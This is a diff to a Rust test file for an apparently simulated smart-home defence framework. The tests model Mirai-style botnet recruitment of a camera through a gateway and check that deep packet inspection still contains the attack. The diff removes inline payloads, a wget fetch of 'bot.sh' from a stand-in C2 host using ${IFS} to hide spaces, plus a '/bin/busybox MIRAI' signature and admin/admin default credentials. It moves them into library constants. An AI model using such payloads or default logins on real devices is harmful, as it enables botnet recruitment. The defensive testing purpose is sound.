@@ -2,6 +2,7 @@
 //! degrades — lossy radios, a silent cloud, monitors that never finished
 //! learning.
 
+use xlf::attacks::mirai::{recruit_login, CNC_SIGNATURES, DEFAULT_LOGIN};
 use xlf::core::alerts::Severity;
 use xlf::core::framework::{HomeDevice, XlfConfig, XlfHome};
 use xlf::device::{SensorKind, VulnSet, Vulnerability};
@@ -18,15 +19,7 @@ impl Node for Recruiter {
         if tag == 1 {
             // Retry the recruitment a few times — radios drop packets.
             for i in 0..5u64 {
-                let login = Packet::new(
-                    ctx.id(),
-                    self.gateway,
-                    "login",
-                    b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
-                )
-                .with_meta("device", "cam")
-                .with_meta("user", "admin")
-                .with_meta("pass", "admin");
+                let login = recruit_login(ctx.id(), self.gateway, "cam");
                 ctx.send_after(self.gateway, login, Duration::from_secs(i));
             }
         }
@@ -127,12 +120,10 @@ fn attack_during_learning_window_is_still_contained_by_dpi() {
             let login = Packet::new(
                 ctx.id(),
                 self.gateway,
-                "login",
-                b"/bin/busybox MIRAI".to_vec(),
+                DEFAULT_LOGIN,
+                CNC_SIGNATURES[1].to_vec(),
             )
-            .with_meta("device", "cam")
-            .with_meta("user", "admin")
-            .with_meta("pass", "admin");
+            .with_device("cam");
             ctx.send(self.gateway, login);
         }
     }
